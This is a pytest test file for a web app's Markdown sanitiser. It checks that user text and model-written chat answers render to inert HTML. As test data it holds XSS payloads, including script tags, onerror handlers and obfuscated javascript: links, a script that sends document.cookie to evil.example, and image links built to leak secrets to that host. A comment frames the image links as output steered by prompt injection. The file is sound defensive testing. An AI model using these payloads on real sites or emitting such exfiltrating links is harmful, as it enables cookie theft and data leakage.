"""User Markdown becomes safe HTML: raw HTML is escaped and only http/https/mailto or relative links survive."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tow_http.pages.markdown import render_chat_markdown, render_markdown, safe_link
from tow_http.pages.web import CONTENT_SECURITY_POLICY

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x]( javascript:alert(1))",
    "<javascript:alert(1)>",
    "[ref][r]\n\n[r]: javascript:alert(1)",
    "![x](https://tracker.example/pixel.png)",
    '<iframe src="https://evil.example"></iframe>',
    "<svg onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
]

TAG = re.compile(r"<([a-zA-Z][a-zA-Z0-9]*)")
SAFE_TAGS = {"p", "a", "em", "strong", "code", "pre", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li",
             "blockquote", "hr", "br",
             # GitHub-flavoured: tables, ~~strike~~, task-list checkboxes (disabled) in labels, highlighted code
             "table", "thead", "tbody", "tr", "th", "td", "s", "input", "label", "span"}


def hrefs(html: str) -> list[str]:
    return re.findall(r'href="([^"]*)"', html)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_input_renders_inert(text):
    html = render_markdown(text)
    assert set(TAG.findall(html)) <= SAFE_TAGS, html
    assert all(safe_link(h) and not h.lower().startswith(("javascript", "data", "vbscript")) for h in hrefs(html))
    assert " on" not in re.sub(r">[^<]*<", "><", html)  # no event-handler attribute inside any tag
    assert "<img" not in html and "<script" not in html and "<iframe" not in html


def test_ordinary_markdown_still_works():
    html = render_markdown("# Title\n\n**bold** *it* `code` [docs](https://example.com) [me](mailto:a@b.example) "
                           "[page](/o/1/r/DOC-1)\n\n- one\n- two")
    assert "<h1>Title</h1>" in html and "<strong>bold</strong>" in html and "<li>one</li>" in html
    assert hrefs(html) == ["https://example.com", "mailto:a@b.example", "/o/1/r/DOC-1"]
    assert 'rel="nofollow noopener noreferrer"' in html


@pytest.mark.parametrize("url,ok", [
    ("https://example.com", True), ("http://x.example/a?b#c", True), ("mailto:a@b.example", True),
    ("/relative/path", True), ("#anchor", True), ("page.html", True),
    ("javascript:alert(1)", False), (" JAVASCRIPT:x", False), ("java\nscript:x", False), ("data:x", False),
    ("file:///etc/passwd", False), ("ftp://x", False), ("", False),
])
def test_link_allow_list(url, ok):
    assert safe_link(url) is ok


@given(st.text(alphabet=st.sampled_from(list("<>\"'=:/()[]!&#;javscriptJAVSCRIPT onerrorhttpdatamailto \n\t`*_")),
               max_size=80))
def test_random_text_never_produces_markup_beyond_markdowns_own(text):
    html = render_markdown(text)
    assert set(TAG.findall(html)) <= SAFE_TAGS, html
    assert all(safe_link(h) for h in hrefs(html)), html


# --- chat answers: Markdown a model wrote, possibly steered by a prompt injection (issue 13) -------------

EXFILTRATING_IMAGES = [
    "![x](https://evil.example/?q=DOC-9%20secret)",
    "![x](https://evil.example/p.png \"title\")",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "![x]\n\n[x]: https://evil.example/?q=secret",
    "![][empty]\n\n[empty]: https://evil.example/?q=secret",
    "[![x](https://evil.example/?q=inner)](https://evil.example/?q=outer)",
    "![a ![b](https://evil.example/b)](https://evil.example/a)",
    "![x](<https://evil.example/a b.png>)",
    "![x](//evil.example/?q=secret)",
    "<img src=\"https://evil.example/?q=secret\">",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:alert(1))",
]


def visible_text(html: str) -> str:
    return re.sub(r"<[^>]*>", "", html)


@pytest.mark.parametrize("text", HOSTILE + EXFILTRATING_IMAGES + [
    "[x](https://example.com) <script>fetch('https://evil.example/?q='+document.cookie)</script>",
    "[x](javascript:fetch('https://evil.example'))", "[x](data:text/html,<script>alert(1)</script>)",
    "<https://evil.example/?q=secret>", "<javascript:alert(1)>", "[x](\\javascript:alert(1))",
    "[a [nested] b](javascript:alert(1))", "\\[x](javascript:alert(1))", "[x]: javascript:alert(1)\n\n[x]",
])
def test_a_chat_answer_renders_inert_and_loads_nothing(text):
    html = render_chat_markdown(text)
    assert set(TAG.findall(html)) <= SAFE_TAGS, html
    tags_only = re.sub(r">[^<]*<", "><", html)
    assert "<img" not in html and "<script" not in html and "<iframe" not in html and " src=" not in tags_only
    assert all(safe_link(h) and not h.lower().startswith(("javascript", "data", "vbscript")) for h in hrefs(html))
    assert " on" not in tags_only


@pytest.mark.parametrize("text", EXFILTRATING_IMAGES[:9])
def test_an_image_in_a_chat_answer_is_a_labelled_link_to_click_not_a_picture_to_load(text):
    html = render_chat_markdown(text)
    assert "<img" not in html
    assert "image" in visible_text(html) and "evil.example" in visible_text(html), html
    assert html.count("<a ") == html.count("</a>") <= 1  # never an anchor inside an anchor


def test_a_reference_style_image_keeps_its_address_only_as_a_link():
    html = render_chat_markdown("See ![chart][c].\n\n[c]: https://evil.example/?q=secret")
    assert html == ('<p>See <a href="https://evil.example/?q=secret" rel="noopener noreferrer nofollow">image: chart'
                    '</a> (evil.example).</p>\n')


def test_every_chat_link_is_plain_and_a_link_to_another_site_shows_where_it_goes():
    html = render_chat_markdown("[DOC-1](https://evil.example/?q=secret) [DOC-2](/o/1/r/DOC-2) "
                                "[https://good.example](https://evil.example/x) <https://example.com/a> "
                                "[mail](mailto:a@b.example)")
    assert hrefs(html) == ["https://evil.example/?q=secret", "/o/1/r/DOC-2", "https://evil.example/x",
                           "https://example.com/a", "mailto:a@b.example"]
    assert html.count('rel="noopener noreferrer nofollow"') == 5 and "target=" not in html
    text = visible_text(html)
    assert "DOC-1 (evil.example)" in text  # cannot pass for a citation of DOC-1
    assert "DOC-2 (" not in text  # this server's own pages need no host
    assert "https://good.example (evil.example)" in text
    assert "https://example.com/a (" not in text  # an autolink shows its address already


def test_a_refused_link_in_a_chat_answer_stays_as_its_text():
    assert visible_text(render_chat_markdown("[click](javascript:alert(1))")).strip() == "[click](javascript:alert(1))"
    assert visible_text(render_chat_markdown("<b>bold</b>")).strip() == "&lt;b&gt;bold&lt;/b&gt;"


def test_ordinary_markdown_in_a_chat_answer_still_works():
    html = render_chat_markdown("## Answer\n\n**Tuesday**, see `DOC-1`:\n\n- one\n- two\n\n```\ncode\n```")
    assert "<h2>Answer</h2>" in html and "<strong>Tuesday</strong>" in html and "<code>DOC-1</code>" in html
    assert "<li>one</li>" in html and "<pre><code>code\n</code></pre>" in html


@given(st.text(alphabet=st.sampled_from(list("<>\"'=:/()[]!&#;javscriptJAVSCRIPT onerrorhttpdatamailto \n\t`*_")),
               max_size=80))
def test_random_text_in_a_chat_answer_never_produces_an_image_or_a_refused_link(text):
    html = render_chat_markdown(text)
    assert set(TAG.findall(html)) <= SAFE_TAGS, html
    assert all(safe_link(h) for h in hrefs(html)), html


def test_pages_may_load_images_from_this_server_only():
    """The browser's own backstop behind the renderers: no page may load an image from anywhere else."""
    directives = dict(d.strip().split(" ", 1) for d in CONTENT_SECURITY_POLICY.split(";"))
    assert directives["img-src"] == "'self'" and directives["default-src"] == "'none'"


# --- GitHub-flavoured Markdown (issue 18) --------------------------------------------------------------


def test_a_table_renders_as_a_table_with_alignment_as_classes_never_inline_styles():
    html = render_markdown("| Name | Cost |\n|:--|--:|\n| Ada | 10 |\n| <b>Bob</b> | 20 |")
    assert "<table>" in html and "<th class=\"align-left\">Name</th>" in html
    assert "<td class=\"align-right\">10</td>" in html and "<td class=\"align-left\">&lt;b&gt;Bob&lt;/b&gt;</td>" in html
    assert "style=" not in html


def test_a_task_list_renders_disabled_checkboxes_with_their_state():
    html = render_markdown("- [ ] write the plan\n- [x] book the room\n- plain item")
    assert html.count('type="checkbox"') == 2 and html.count('disabled="disabled"') == 2
    assert html.count('checked="checked"') == 1
    assert "<label><input" in html and "write the plan</label>" in html  # the text names the checkbox
    assert "<li>plain item</li>" in html


def test_strikethrough_and_github_autolinks():
    html = render_markdown("~~old plan~~ see https://example.com/a?b=1, www.example.org or ops@example.com; "
                           "README.md, example.org and DOC-12 stay text")
    assert "<s>old plan</s>" in html
    assert hrefs(html) == ["https://example.com/a?b=1", "http://www.example.org", "mailto:ops@example.com"]
    assert "README.md, example.org and DOC-12 stay text" in html


@pytest.mark.parametrize("text", ["see javascript:alert(1)//example.com", "data:text/html,<script>x</script>",
                                  "vbscript://x.example", "ftp://files.example/a", "//evil.example/x"])
def test_autolinking_never_makes_a_link_of_another_scheme(text):
    html = render_markdown(text)
    assert all(h.startswith(("http://", "https://", "mailto:")) for h in hrefs(html)), html
    assert "<script" not in html


def test_fenced_code_in_a_known_language_is_highlighted_with_classes_only():
    html = render_markdown('```python\ndef f(x):\n    return "<script>alert(1)</script>"  # done\n```')
    assert html.startswith('<pre class="highlight"><code class="language-python">')
    assert '<span class="hl-k">def</span>' in html and '<span class="hl-c1"># done</span>' in html
    assert "<script" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "style=" not in html
    assert set(TAG.findall(html)) <= SAFE_TAGS


@pytest.mark.parametrize("info", ["nosuchlanguage", "", 'py" onmouseover="alert(1)', "<script>"])
def test_fenced_code_in_an_unknown_language_is_plain_escaped_code(info):
    html = render_markdown(f"```{info}\n<b>html</b> & <script>x</script>\n```")
    assert "<span" not in html and "highlight" not in html
    assert "&lt;b&gt;html&lt;/b&gt; &amp; &lt;script&gt;x&lt;/script&gt;" in html
    assert " on" not in re.sub(r">[^<]*<", "><", html).replace('class="language-', "")
    assert set(TAG.findall(html)) <= SAFE_TAGS


def test_html_in_inline_code_and_in_table_cells_stays_text():
    html = render_markdown("`<img src=x onerror=alert(1)>`\n\n| a |\n|---|\n| <script>x</script> |")
    assert "<img" not in html and "<script" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "&lt;script&gt;x&lt;/script&gt;" in html


def test_an_uploaded_image_of_this_server_is_shown_and_any_other_image_is_a_link_never_loaded():
    html = render_markdown("![screenshot](/api/uploads/7/content)\n\n![pixel](https://tracker.example/p.png) "
                           "![x](/api/uploads/7/content?x=https://evil.example) ![y](//evil.example/p.png)")
    assert html.count("<img") == 1 and '<img src="/api/uploads/7/content" alt="screenshot" loading="lazy">' in html
    assert "image: pixel</a> (tracker.example)" in html and "image: y</a> (evil.example)" in html
    assert 'src="https' not in html and 'src="//' not in html


def test_a_chat_answer_gets_tables_and_highlighting_but_still_loads_no_image_not_even_an_upload():
    html = render_chat_markdown("| a |\n|---|\n| b |\n\n```python\nx = 1\n```\n\n![s](/api/uploads/7/content) "
                                "www.example.org")
    assert "<table>" in html and '<span class="hl-n">x</span>' in html
    assert "<img" not in html and "image: s</a>" in html
    assert '<a href="http://www.example.org" rel="noopener noreferrer nofollow">www.example.org</a>' in html
    assert "www.example.org (" not in visible_text(html)  # an autolink shows its address already


def test_the_highlighting_stylesheet_is_served_from_this_server_and_uses_the_same_class_prefix():
    from tow_http.pages.markdown import HIGHLIGHT_CLASS_PREFIX
    from tow_http.pages.web import STATIC, TEMPLATES

    css = (STATIC / "pygments.css").read_text()
    assert f"pre.highlight .{HIGHLIGHT_CLASS_PREFIX}k " in css and "prefers-color-scheme: dark" in css
    assert '<link rel="stylesheet" href="/static/pygments.css">' in (TEMPLATES / "base.html").read_text()


def test_a_mention_is_shown_as_a_chip_with_its_name_escaped_and_never_inside_code():
    html = render_markdown("ask @[Ada <b>](user:12) and **@[Bob](user:3)** about `@[Cy](user:4)`")
    assert '<span class="mention" data-user-id="12">@Ada &lt;b&gt;</span>' in html
    assert '<strong><span class="mention" data-user-id="3">@Bob</span></strong>' in html
    assert "<code>@[Cy](user:4)</code>" in html and "<b>" not in html
    assert "<span" not in render_markdown("a link [x](user:1) without its @ is no chip")
